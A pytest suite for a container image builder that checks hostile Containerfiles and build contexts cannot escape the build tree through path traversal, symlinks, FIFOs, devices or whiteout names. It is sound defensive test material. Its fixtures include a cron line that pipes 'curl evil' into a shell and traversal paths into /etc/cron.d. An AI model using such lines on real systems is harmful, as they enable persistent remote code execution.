"""Hostile builds: Containerfiles, contexts and RUN steps that try to reach outside their trees.

Each attack runs against the real builder (fake crun and kernel seams) in tmp_path. Beside the engine
root sit sentinel files; after the build, everything outside the store's own working areas keeps its
owner, mode and content, nothing new appeared outside them, and the layers already stored are intact.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import stat
import tarfile
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from labagent import beneath
from labagent.build import containerfile as cf
from labagent.build import context as build_context
from labagent.build.builder import Builder, BuildError
from labagent.build.layer import ReservedName, tar_dir
from labagent.build.rootview import RootView, image_path
from labagent.client import ApiError
from labagent.errors import BadParameter
from labagent.images.store import LAYER_TAR, LayerBlob

VOLATILE = ("root/images", "root/tmp", "root/build-cache", "root/containers", "crun-state", "cgroup", "run")


def _entry(path: Path) -> tuple[Any, ...]:
    st = os.lstat(path)
    body: Any = None
    if stat.S_ISREG(st.st_mode):
        body = hashlib.sha256(path.read_bytes()).hexdigest()
    elif stat.S_ISLNK(st.st_mode):
        body = os.readlink(path)
    elif stat.S_ISCHR(st.st_mode) or stat.S_ISBLK(st.st_mode):
        body = st.st_rdev
    return (stat.S_IFMT(st.st_mode), stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid, body)


def snapshot(top: Path) -> dict[str, tuple[Any, ...]]:
    """Every path under top (links not followed) with its type, mode, owner and content."""
    out: dict[str, tuple[Any, ...]] = {}
    for root, dirs, files in os.walk(top):
        rel_root = Path(root).relative_to(top).as_posix()
        if rel_root.startswith(VOLATILE):
            dirs[:] = []
            continue
        for name in dirs + files:
            rel = (Path(rel_root) / name).as_posix()
            if not rel.startswith(VOLATILE):
                out[rel] = _entry(Path(root) / name)
    return out


class World:
    """Sentinels beside the engine root, and the check that the build left them and the store alone."""

    def __init__(self, tmp_path: Path) -> None:
        self.tmp = tmp_path
        cron = tmp_path / "etc" / "cron.d"
        cron.mkdir(parents=True)
        (cron / "sentinel").write_text("0 * * * * root true\n")
        (cron / "sentinel").chmod(0o640)
        self.outside = tmp_path / "outside"
        self.outside.mkdir()
        (self.outside / "secret").write_text("host secret\n")
        (self.outside / "Dockerfile").write_text("FROM busybox\nRUN touch pwned\n")
        self.before: dict[str, tuple[Any, ...]] = {}

    def arm(self) -> None:
        self.before = snapshot(self.tmp)

    def check(self) -> None:
        after = snapshot(self.tmp)
        changed = {k for k, v in self.before.items() if after.get(k) != v}
        assert not changed, f"changed outside the build: {sorted(changed)}"
        new = {k for k in set(after) - set(self.before) if not k.startswith("root/layers/")}
        assert not new, f"created outside the build: {sorted(new)}"
        assert not (self.tmp / "etc" / "cron.d" / "x").exists()


@pytest.fixture(params=["openat2", "walk"])
def resolution(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """The attacks on paths run with the kernel's openat2 and with the O_NOFOLLOW walk."""
    monkeypatch.setattr(beneath, "_openat2_works", None if request.param == "openat2" else False)
    yield request.param


@pytest.fixture
def world(tmp_path: Path, engine: Any) -> World:
    engine.images.resolve("busybox")  # waits for the background busybox build
    return World(tmp_path)


@pytest.fixture
def ctx(tmp_path: Path) -> Path:
    path = tmp_path / "ctx"
    path.mkdir()
    (path / "payload").write_text("* * * * * root curl evil | sh\n")
    return path


def build(engine: Any, context: Path, text: str, tag: str = "out") -> Any:
    return Builder(engine).build(context, text, [tag], lambda _: None)


def layer_members(engine: Any, image: Any, index: int = -1) -> dict[str, tarfile.TarInfo]:
    blob = engine.images.blob_path(image.diff_ids[index])
    with tarfile.open(blob) as tar:
        return {m.name: m for m in tar.getmembers()}


def layer_bytes(engine: Any, image: Any) -> bytes:
    return b"".join(engine.images.blob_path(d).read_bytes() for d in image.diff_ids)


def tar_of(members: list[tuple[str, bytes | str | None, int]]) -> bytes:
    """A tar of (name, data, type): data is bytes for files, a link target for links."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data, kind in members:
            info = tarfile.TarInfo(name)
            info.type, info.mode = kind, 0o755 if kind == tarfile.DIRTYPE else 0o644
            if kind == tarfile.SYMTYPE:
                info.linkname = str(data)
                tar.addfile(info)
            elif kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
                info.devmajor, info.devminor = 1, 3
                tar.addfile(info)
            elif isinstance(data, bytes):
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return buf.getvalue()


def add_base(engine: Any, layer: bytes, tag: str, config: dict[str, Any] | None = None) -> Any:
    """An image of one layer (tar_of members) with the given container config."""
    blob = engine.images.put_bytes(layer)
    data = {"architecture": "amd64", "os": "linux", "created": "2024-01-01T00:00:00Z",
            "config": config or {}, "rootfs": {"type": "layers", "diff_ids": [blob.digest]}}
    return engine.images.add_image(json.dumps(data).encode(), [LayerBlob(blob.digest, blob.size, LAYER_TAR)],
                                   [tag])


def in_thread(fn: Callable[[], Any], timeout: float = 20) -> Any:
    """Run fn with a deadline: a build that opens a FIFO or reads a device would never return."""
    result: dict[str, Any] = {}

    def run() -> None:
        try:
            result["value"] = fn()
        except BaseException as exc:  # handed back to the test
            result["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(timeout)
    assert not thread.is_alive(), "the build hung: it read a FIFO or a device"
    if "error" in result:
        raise result["error"]
    return result.get("value")


# 1. COPY destinations ------------------------------------------------------------------------

@pytest.mark.parametrize(("dest", "workdir", "want"), [
    ("/../../../../etc/cron.d/x", "", "/etc/cron.d/x"),
    ("../../../../etc/cron.d/x", "/app", "/etc/cron.d/x"),
    ("x", "", "/x"),
    ("sub/", "/app", "/app/sub"),
    (".", "/app", "/app"),
    ("/a/./b//c/..", "/w", "/a/b"),
])
def test_image_paths_are_clean_and_absolute(dest: str, workdir: str, want: str) -> None:
    assert image_path(dest, workdir) == want


def test_copy_destination_that_climbs_lands_inside_the_image(engine, world, ctx, resolution) -> None:
    world.arm()
    image = build(engine, ctx, "FROM busybox\nCOPY payload /../../../../etc/cron.d/x\n"
                               "WORKDIR /app\nCOPY payload ../../../../../../etc/cron.d/y\n")
    world.check()
    assert "etc/cron.d/x" in layer_members(engine, image, -2)
    assert "etc/cron.d/y" in layer_members(engine, image, -1)
    assert (engine.images.layer_dir(image.diff_ids[-2]) / "etc/cron.d/x").read_text().startswith("*")


def test_copy_follows_the_image_symlinks_inside_its_root(engine, world, ctx, resolution) -> None:
    layer = tar_of([("usr/", None, tarfile.DIRTYPE), ("usr/bin/", None, tarfile.DIRTYPE),
                    ("bin", "usr/bin", tarfile.SYMTYPE), ("host", str(world.outside), tarfile.SYMTYPE),
                    ("up", "../../../../..", tarfile.SYMTYPE), ("tmp/", None, tarfile.DIRTYPE)])
    add_base(engine, layer, "links:1")
    world.arm()
    image = build(engine, ctx, "FROM links:1\nCOPY payload /bin/\nCOPY payload /host/planted\n"
                               "COPY payload /up/etc/cron.d/x\nCOPY payload /bin\n")
    world.check()
    first, second, third, fourth = (layer_members(engine, image, i) for i in (-4, -3, -2, -1))
    assert "usr/bin/payload" in first and "bin" not in first  # /bin stays the image's link
    assert f"{world.outside.as_posix().lstrip('/')}/planted" in second  # the link, read in the root
    assert not (world.outside / "planted").exists()
    assert "etc/cron.d/x" in third
    assert "usr/bin/payload" in fourth  # an existing directory (through its link): COPY goes into it


def test_copy_parents_keep_the_image_metadata(engine, world, ctx) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("tmp")
        info.type, info.mode, info.uid, info.gid = tarfile.DIRTYPE, 0o1777, 0, 0
        tar.addfile(info)
    add_base(engine, buf.getvalue(), "tmp:1")
    image = build(engine, ctx, "FROM tmp:1\nCOPY payload /tmp/x\n")
    members = layer_members(engine, image)
    assert members["tmp"].mode == 0o1777  # the layer's /tmp does not hide the image's sticky bit
    assert members["tmp/x"].uid == 0 and members["tmp/x"].isreg()


def test_copy_into_a_file_of_the_image_is_refused_with_its_line(engine, world, ctx) -> None:
    world.arm()
    with pytest.raises(BadParameter, match=r"line 2: COPY .*/bin/busybox.* not a directory"):
        build(engine, ctx, "FROM busybox\nCOPY payload /bin/busybox/x\n")
    world.check()


# 2. WORKDIR -----------------------------------------------------------------------------------

@pytest.mark.parametrize(("previous", "new", "want"), [
    ("", "../../../x", "/x"),
    ("/a", "b/../c", "/a/c"),
    ("/a", "/../..", "/"),
    ("../../x", "y", "/x/y"),
    ("/a/b", "../../../..", "/"),
])
def test_workdir_is_always_absolute_and_clean(previous: str, new: str, want: str) -> None:
    assert image_path(new, previous) == want


def test_workdir_with_dots_stays_inside_the_image(engine, world, ctx, resolution) -> None:
    world.arm()
    image = build(engine, ctx, "FROM busybox\nWORKDIR ../../../../x\nCOPY payload y\nWORKDIR sub/../../z\n")
    world.check()
    assert image.config["config"]["WorkingDir"] == "/z"
    assert "x/y" in layer_members(engine, image)
    assert not (world.tmp / "x").exists()


def test_workdir_from_a_loaded_base_image_is_cleaned(engine, world, ctx, resolution) -> None:
    busybox = engine.images.resolve("busybox")
    blob = engine.images.blob_path(busybox.diff_ids[0]).read_bytes()
    add_base(engine, blob, "hostile:1", {"WorkingDir": "../../../x", "Cmd": ["sh"]})
    world.arm()
    image = build(engine, ctx, "FROM hostile:1\nCOPY payload rel\nRUN echo ran > ran.txt\n")
    world.check()
    assert image.config["config"]["WorkingDir"] == "/x"
    assert "x/rel" in layer_members(engine, image, -2)
    assert not (world.tmp / "root" / "x").exists()


@pytest.mark.parametrize("config", [{"WorkingDir": 7}, {"WorkingDir": "a\0b"}])
def test_a_base_image_config_of_the_wrong_shape_is_refused(engine, world, ctx, config) -> None:
    busybox = engine.images.resolve("busybox")
    add_base(engine, engine.images.blob_path(busybox.diff_ids[0]).read_bytes(), "odd:1", config)
    with pytest.raises(BadParameter, match="WorkingDir"):
        build(engine, ctx, "FROM odd:1\nCOPY payload rel\n")


# 3. COPY sources ------------------------------------------------------------------------------

def test_copy_sources_never_lead_out_of_the_context(engine, world, ctx, resolution) -> None:
    (ctx / "abs").symlink_to(world.outside / "secret")
    (ctx / "rel").symlink_to("../outside/secret")
    (ctx / "dirlink").symlink_to(world.outside)
    (ctx / "inner").symlink_to("payload")
    (ctx / "tree").mkdir()
    (ctx / "tree" / "out").symlink_to("../../outside")
    (ctx / "tree" / "file").write_text("in tree\n")
    world.arm()
    for source in ("abs", "rel", "dirlink/secret"):
        with pytest.raises(BadParameter, match=f"line 2: COPY source '{source}' not found in the build context"):
            build(engine, ctx, f"FROM busybox\nCOPY {source} /got\n")
    for source in ("../outside/secret", "tree/../../outside/secret"):
        with pytest.raises(BadParameter, match="line 2: COPY source .* is outside the build context"):
            build(engine, ctx, f"FROM busybox\nCOPY {source} /got\n")
    image = build(engine, ctx, "FROM busybox\nCOPY inner /inner\nCOPY tree /tree/\n")
    world.check()
    inner, tree = layer_members(engine, image, -2), layer_members(engine, image, -1)
    assert inner["inner"].isreg() and inner["inner"].size == len((ctx / "payload").read_bytes())
    assert tree["tree/out"].issym() and tree["tree/out"].linkname == "../../outside"
    assert b"host secret" not in layer_bytes(engine, image)


def test_copy_wildcards_are_refused_plainly(engine, world, ctx) -> None:
    with pytest.raises(BadParameter, match="line 2: COPY source '\\*.txt': wildcards are not supported"):
        build(engine, ctx, "FROM busybox\nCOPY *.txt /\n")


# 4. Devices, FIFOs and sockets in the context; the context's size --------------------------------

def test_a_fifo_in_the_context_is_never_opened(engine, world, ctx, resolution) -> None:
    os.mkfifo(ctx / "pipe")
    (ctx / "dir").mkdir()
    os.mkfifo(ctx / "dir" / "pipe")
    world.arm()
    for source in ("pipe", "dir"):
        with pytest.raises(BadParameter, match=f"line 2: COPY source '{source}'.* is a FIFO"):
            in_thread(lambda s=source: build(engine, ctx, f"FROM busybox\nCOPY {s} /got\n"))
    world.check()


def test_a_device_in_the_context_is_never_read(engine, world, ctx, can_mknod) -> None:
    if not can_mknod:
        pytest.skip("mknod not permitted here")
    os.mknod(ctx / "disk", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero: a read never ends
    world.arm()
    with pytest.raises(BadParameter, match="line 2: COPY source 'disk' is a character device"):
        in_thread(lambda: build(engine, ctx, "FROM busybox\nCOPY disk /disk\n"))
    world.check()


def context_tar(members: list[tuple[str, bytes | str | None, int]], text: bytes | None = None) -> bytes:
    head = [] if text is None else [("Dockerfile", text, tarfile.REGTYPE)]
    return tar_of(head + members)


def post_build(client: Any, body: bytes, **query: str) -> list[dict[str, Any]]:
    resp = client.request("POST", "/build", {"t": "x:1", **query}, raw=body, length=len(body))
    return [json.loads(line) for line in resp.read().splitlines() if line.strip()]


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_a_context_with_a_device_or_fifo_is_refused_naming_it(client, engine, world, kind) -> None:
    body = context_tar([("sub/", None, tarfile.DIRTYPE), ("sub/disk", None, kind)],
                       b"FROM busybox\nCOPY sub/disk /disk\n")
    world.arm()
    with pytest.raises(ApiError, match="sub/disk"):  # refused by the unpacker or by the context check
        in_thread(lambda: post_build(client, body))
    world.check()
    assert not list((world.tmp / "root" / "tmp").iterdir())  # the context is gone


@pytest.mark.parametrize("name", [".wh.x", "sub/.wh..wh..opq", ".wh..."])
def test_whiteout_names_in_a_context_are_files_that_copy_refuses(client, engine, world, name) -> None:
    body = context_tar([("sub/", None, tarfile.DIRTYPE), (name, b"", tarfile.REGTYPE)],
                       b"FROM busybox\nCOPY . /\n")
    busybox = engine.images.resolve("busybox")
    layers = {d: snapshot(d) for d in engine.images.layer_dirs(busybox)}
    world.arm()
    lines = post_build(client, body)
    assert lines[-1]["error"] == (f"Containerfile line 2: COPY would create a file named /{name}, which image "
                                  "layers reserve for whiteouts")
    world.check()
    assert {d: snapshot(d) for d in engine.images.layer_dirs(busybox)} == layers


def test_the_context_is_bounded_in_entries_and_bytes(engine, world, ctx, monkeypatch) -> None:
    (ctx / "many").mkdir()
    for i in range(20):
        (ctx / "many" / f"f{i}").write_text("x")
    (ctx / "big").write_bytes(b"y" * 4096)
    monkeypatch.setattr(build_context, "MAX_ENTRIES", 10)
    with pytest.raises(BadParameter, match=r"line 2: COPY source 'many': more than 10 entries"):
        build(engine, ctx, "FROM busybox\nCOPY many /m\n")
    monkeypatch.setattr(build_context, "MAX_BYTES", 1000)
    with pytest.raises(BadParameter, match=r"line 2: COPY source 'big': more than 1000 bytes"):
        build(engine, ctx, "FROM busybox\nCOPY big /b\n")


# 5. What a RUN step leaves in its upper dir ----------------------------------------------------

@pytest.mark.parametrize("name", [".wh.x", "sub/.wh..wh..opq", ".wh...", "sub/.wh.passwd"])
def test_run_creating_a_whiteout_name_is_refused(engine, world, name) -> None:
    busybox = engine.images.resolve("busybox")
    layers = {d: snapshot(d) for d in engine.images.layer_dirs(busybox)}
    world.arm()
    with pytest.raises(BuildError, match=re.escape(f"line 2: RUN created a file named /{name}, which image "
                                                   "layers reserve for whiteouts")):
        build(engine, world.tmp, f"FROM busybox\nRUN mkdir -p sub && touch {name}\n")
    world.check()
    assert {d: snapshot(d) for d in engine.images.layer_dirs(engine.images.resolve("busybox"))} == layers
    assert engine.containers.all() == []


def test_tar_dir_keeps_special_files_as_entries_without_reading_them(tmp_path, can_mknod) -> None:
    if not can_mknod:
        pytest.skip("mknod not permitted here")
    upper, outside = tmp_path / "upper", tmp_path / "outside"
    (upper / "d").mkdir(parents=True)
    outside.mkdir()
    (outside / "secret").write_text("host secret\n")
    os.mknod(upper / "zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    os.mknod(upper / "d" / "gone", stat.S_IFCHR, os.makedev(0, 0))  # an overlay whiteout
    os.mkfifo(upper / "pipe")
    (upper / "escape").symlink_to(outside)
    (upper / "secret").symlink_to(outside / "secret")
    (upper / "a").write_text("linked\n")
    os.link(upper / "a", upper / "b")
    opaque = True
    try:
        os.setxattr(upper / "d", "trusted.overlay.opaque", b"y")
    except OSError:
        opaque = False
    in_thread(lambda: tar_dir(upper, tmp_path / "out.tar"))
    with tarfile.open(tmp_path / "out.tar") as tar:
        members = {m.name: m for m in tar.getmembers()}
        data = (tmp_path / "out.tar").read_bytes()
    assert members["zero"].ischr() and (members["zero"].devmajor, members["zero"].devminor) == (1, 5)
    assert members["pipe"].isfifo()
    assert members["escape"].issym() and members["secret"].issym() and b"host secret" not in data
    assert members["d/.wh.gone"].isreg() and "d/gone" not in members
    assert members["b"].islnk() and members["b"].linkname == "a"
    assert (".wh..wh..opq" in {n.rsplit("/", 1)[-1] for n in members}) == opaque


@pytest.mark.parametrize("name", [".wh.x", ".wh..wh..opq", ".wh..."])
def test_tar_dir_refuses_a_plain_file_with_a_whiteout_name(tmp_path, name) -> None:
    (tmp_path / "upper").mkdir()
    (tmp_path / "upper" / name).write_text("")
    with pytest.raises(ReservedName) as caught:
        tar_dir(tmp_path / "upper", tmp_path / "out.tar")
    assert caught.value.name == name


def test_tar_dir_bounds_its_depth(tmp_path, monkeypatch) -> None:
    from labagent.build import tree

    monkeypatch.setattr(tree, "MAX_DEPTH", 5)
    deep = tmp_path / "upper" / "a" / "b" / "c" / "d" / "e" / "f"
    deep.mkdir(parents=True)
    with pytest.raises(BadParameter, match="deeper than 5 directories"):
        tar_dir(tmp_path / "upper", tmp_path / "out.tar")


# 6. The Dockerfile's name --------------------------------------------------------------------

@pytest.mark.parametrize("name", ["../outside/Dockerfile", "link", "sub/../../outside/Dockerfile",
                                  "/etc/passwd"])
def test_the_dockerfile_name_stays_in_the_context(client, engine, world, name) -> None:
    body = context_tar([("link", str(world.outside / "Dockerfile"), tarfile.SYMTYPE),
                        ("sub/", None, tarfile.DIRTYPE)], b"FROM busybox\n")
    world.arm()
    with pytest.raises(ApiError, match="Cannot locate specified Dockerfile"):
        in_thread(lambda: post_build(client, body, dockerfile=name))
    world.check()
    assert not (world.tmp / "root" / "pwned").exists()


def test_a_dockerfile_that_is_a_fifo_or_a_directory_is_not_read(tmp_path) -> None:
    from labagent.api.builds import containerfile

    os.mkfifo(tmp_path / "Dockerfile")
    (tmp_path / "Containerfile").mkdir()
    for name in ("", "Dockerfile", "Containerfile", "a\0b"):
        with pytest.raises(BadParameter, match="Cannot locate specified Dockerfile"):
            in_thread(lambda n=name: containerfile(tmp_path, n))


def test_a_dockerfile_link_inside_the_context_is_followed(client, engine, world) -> None:
    body = context_tar([("real/", None, tarfile.DIRTYPE), ("real/Build", b"FROM busybox\nLABEL a=b\n",
                                                           tarfile.REGTYPE),
                        ("Dockerfile", "/real/Build", tarfile.SYMTYPE)])
    lines = post_build(client, body)
    assert next(line for line in lines if "aux" in line)["aux"]["ID"].startswith("sha256:")


@pytest.mark.parametrize(("data", "message"), [
    (b"FROM busybox\n" + b"#" * (cf.MAX_BYTES + 1), "Dockerfile is larger than"),
    (b"FROM busybox\nLABEL a=\xff\n", "Dockerfile is not UTF-8 text"),
])
def test_a_dockerfile_too_large_or_not_text_is_refused(client, engine, data, message) -> None:
    with pytest.raises(ApiError, match=message):
        post_build(client, context_tar([], data))


# 7. Sizes in the Containerfile ---------------------------------------------------------------

@pytest.mark.parametrize(("text", "message"), [
    ("FROM busybox\n" + "LABEL a=b\n" * cf.MAX_INSTRUCTIONS, f"more than {cf.MAX_INSTRUCTIONS} instructions"),
    ("FROM busybox\nRUN " + "x" * cf.MAX_LINE + "\n", f"line 2: the instruction is longer than {cf.MAX_LINE}"),
    ("FROM busybox\nRUN a \\\n" + "b \\\n" * (cf.MAX_LINE // 2) + "c\n", "line 2: the instruction is longer"),
    ("FROM busybox\nRUN a\0b\n", "line 2: a NUL character"),
    ("x" * (cf.MAX_BYTES + 1), "Containerfile is larger than"),
])
def test_containerfile_sizes_are_bounded(text: str, message: str) -> None:
    with pytest.raises(BadParameter, match=message):
        cf.parse(text)


def test_the_number_of_layers_is_bounded(engine, world, ctx, monkeypatch) -> None:
    from labagent.build import builder

    monkeypatch.setattr(builder, "MAX_LAYERS", 3)
    with pytest.raises(BadParameter, match="line 4: more than 3 layers"):
        build(engine, ctx, "FROM busybox\nCOPY payload /a\nCOPY payload /b\nCOPY payload /c\n")


# The image as COPY sees it ---------------------------------------------------------------------

def test_the_root_view_merges_layers_as_overlay_does(tmp_path, can_mknod, resolution) -> None:
    if not can_mknod:
        pytest.skip("mknod not permitted here (whiteouts are 0:0 devices)")
    low, mid, top = (tmp_path / n for n in ("low", "mid", "top"))
    for path in (low / "etc", low / "usr/bin", low / "opt", mid / "etc", mid / "opt", top / "lib"):
        path.mkdir(parents=True)
    (low / "etc/passwd").write_text("root\n")
    (low / "etc/hosts").write_text("hosts\n")
    (low / "opt/old").write_text("old\n")
    (low / "bin").symlink_to("usr/bin")
    (low / "lib").symlink_to(tmp_path / "outside")  # a host path, read in the image: missing
    (low / "loop").symlink_to("loop")
    os.mknod(mid / "etc/passwd", stat.S_IFCHR, os.makedev(0, 0))
    (mid / "opt/new").write_text("new\n")
    try:
        os.setxattr(mid / "opt", "trusted.overlay.opaque", b"y")
        opaque = True
    except OSError:
        opaque = False
    with RootView([low, mid, top]) as view:
        assert view.lookup(("etc", "passwd"))[0] is None  # whited out in mid
        assert view.lookup(("etc", "hosts"))[0] is not None  # etc merges down to low
        assert (view.lookup(("opt", "old"))[0] is None) == opaque
        assert view.lookup(("opt", "new"))[0] is not None
        assert view.resolve("/bin/x") == ("/usr/bin/x", None)
        assert view.resolve("/lib/x")[0] == "/lib/x"  # top's directory hides low's link
        with pytest.raises(BadParameter, match="/etc/hosts is not a directory"):
            view.resolve("/etc/hosts/x")
        with pytest.raises(BadParameter, match="symbolic links"):
            view.resolve("/loop/x")
    with RootView([low]) as view:
        real, st = view.resolve("/lib/x")
        assert real == f"{(tmp_path / 'outside').as_posix()}/x" and st is None
